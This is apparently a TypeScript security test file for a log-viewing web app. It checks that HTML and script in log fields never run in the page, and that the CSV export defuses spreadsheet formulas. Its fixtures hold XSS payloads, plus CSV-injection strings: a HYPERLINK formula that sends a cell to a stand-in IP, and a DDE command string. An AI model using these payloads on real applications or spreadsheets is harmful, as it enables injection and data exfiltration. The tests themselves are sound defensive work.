// Log fields are attacker-controlled: a user agent, a user name or a URL can
// hold HTML, script or spreadsheet formulas. The page must show them as text
// and run nothing; the CSV export must not hand a spreadsheet a formula.
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import Papa from 'papaparse';
import {
  assertNoUncaughtErrors,
  assertOnlyOwnOrigin,
  download,
  exportedAlerts,
  ingest,
  launchApp,
  removeDirs,
  tempDir,
  type App,
} from './harness.ts';
import { activeLog, type UrlRow } from './panos.ts';

const XSS: UrlRow[] = [
  {
    time: '2026/09/20 10:00:00',
    src: '<img src=x onerror=window.__pwned=1>',
    user: '<script>window.__pwned=2</script>',
    url: 'xss-one.com/<img src=x onerror=window.__pwned=3>',
    userAgent: '<img src=x onerror=window.__pwned=4>',
  },
  {
    time: '2026/09/20 10:05:00',
    src: '10.9.9.9',
    user: 'corp\\<b id=injected>bold</b>',
    url: 'xss-two.com/"><script>window.__pwned=5</script>',
    userAgent: '<script>window.__pwned=6</script>',
  },
];

const FORMULAS: UrlRow[] = [
  {
    time: '2026/09/21 09:00:00',
    src: '=HYPERLINK("http://203.0.113.9/?q="&A1,"click")',
    user: '+SUM(1+1)',
    url: '@csv-one.com/-x',
    userAgent: '-2+3',
  },
  {
    time: '2026/09/21 09:10:00',
    src: '@SUM(1)',
    user: '-1+1',
    url: '=csv-two.com/x',
    userAgent: "=cmd|' /C calc'!A0",
  },
  { time: '2026/09/21 09:20:00', src: '+10.0.0.5', user: '=1', url: 'csv-three.com/', userAgent: '\tcurl/8.4.0' },
];

/** Cell values of the CSV export that came from the log and start with a formula character. */
const FORMULA_VALUES = [
  FORMULAS[0].src,
  FORMULAS[0].user!,
  FORMULAS[0].url,
  FORMULAS[0].userAgent,
  FORMULAS[1].src,
  FORMULAS[1].user!,
  FORMULAS[1].url,
  FORMULAS[1].userAgent,
  FORMULAS[2].src,
  FORMULAS[2].user!,
  FORMULAS[2].userAgent,
];

let app: App;
let work: string;

before(async () => {
  app = await launchApp();
  work = await tempDir();
  const file = join(work, 'hostile.log');
  await writeFile(file, activeLog([...XSS, ...FORMULAS]));
  await ingest(app.page, [file]);
});

after(async () => {
  await app?.close();
  await removeDirs(work);
});

/** Elements or handlers that only an injection could have put in the page. */
async function injected(): Promise<string[]> {
  return app.page.evaluate(() => {
    const found: string[] = [];
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) found.push(`${el.tagName} ${a.name}=${a.value}`);
      }
    }
    for (const el of Array.from(document.querySelectorAll('img[src="x"], #injected, script:not([src])'))) {
      found.push(el.outerHTML.slice(0, 120));
    }
    return found;
  });
}

test('the hostile rows make alerts, with their fields as logged', async () => {
  const alerts = await exportedAlerts(app.page);
  // Without these alerts the checks below would look at nothing.
  assert.equal(alerts.length, XSS.length + FORMULAS.length, app.diagnostics());
  for (const row of [...XSS, ...FORMULAS]) {
    const a = alerts.find((x) => x.host === row.src);
    assert.ok(a, `an alert for host ${row.src}`);
    assert.equal(a.user, row.user);
    assert.equal(a.evidence[0].url, row.url);
    assert.equal(a.evidence[0].user_agent, row.userAgent);
  }
});

test('HTML and script in the table are shown as text and never run', async () => {
  const rows = app.page.getByTestId('alert-row');
  const text = (await rows.allTextContents()).join('\n');
  for (const row of XSS) {
    assert.ok(text.includes(row.src), `the table shows host ${row.src} literally`);
    assert.ok(text.includes(row.user!), `the table shows user ${row.user} literally`);
  }
  assert.ok(text.includes('<img src=x onerror=window.__pwned=4>'), 'the client key is shown literally');
  assert.ok(text.includes('<script>window.__pwned=6<'), 'the client key is shown literally');
  assert.deepEqual(await injected(), []);
  assert.equal(await app.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
});

test('HTML and script in the alert detail are shown as text and never run', async () => {
  for (const row of XSS) {
    await app.page.getByTestId('alert-row').filter({ hasText: row.src }).first().click();
    const detail = app.page.getByTestId('alert-detail');
    // The evidence table arrives from the worker after the panel opens.
    await detail.getByText(row.url, { exact: true }).waitFor();
    const text = (await detail.textContent()) ?? '';
    for (const value of [row.src, row.user!, row.url, row.userAgent]) {
      assert.ok(text.includes(value), `the detail shows ${value} literally`);
    }
    assert.deepEqual(await injected(), []);
    await app.page.keyboard.press('Escape');
    await detail.waitFor({ state: 'detached' });
  }
  assert.equal(await app.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
});

test('the CSV export neutralises cells that start with =, +, -, @ or a tab', async () => {
  const csv = await download(app.page, 'export-csv');
  assert.match(csv.name, /\.csv$/);
  const parsed = Papa.parse<string[]>(csv.text, { skipEmptyLines: true });
  assert.deepEqual(parsed.errors, []);
  const [header, ...rows] = parsed.data;
  assert.ok(header.length > 5, 'a header row');
  assert.equal(rows.length, XSS.length + FORMULAS.length);
  const cells = rows.flat();
  const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
  assert.deepEqual(formulas, [], 'no cell a spreadsheet would read as a formula');
  // Neutralised, not dropped: each value is still there after its guard character.
  for (const value of FORMULA_VALUES) {
    assert.ok(
      cells.some((c) => c.includes(value.trimStart())),
      `the CSV still holds ${JSON.stringify(value)}`,
    );
  }
});

test('the page threw no uncaught error', () => {
  assertNoUncaughtErrors(app);
});

test('no request left the page origin', () => {
  assertOnlyOwnOrigin(app);
});
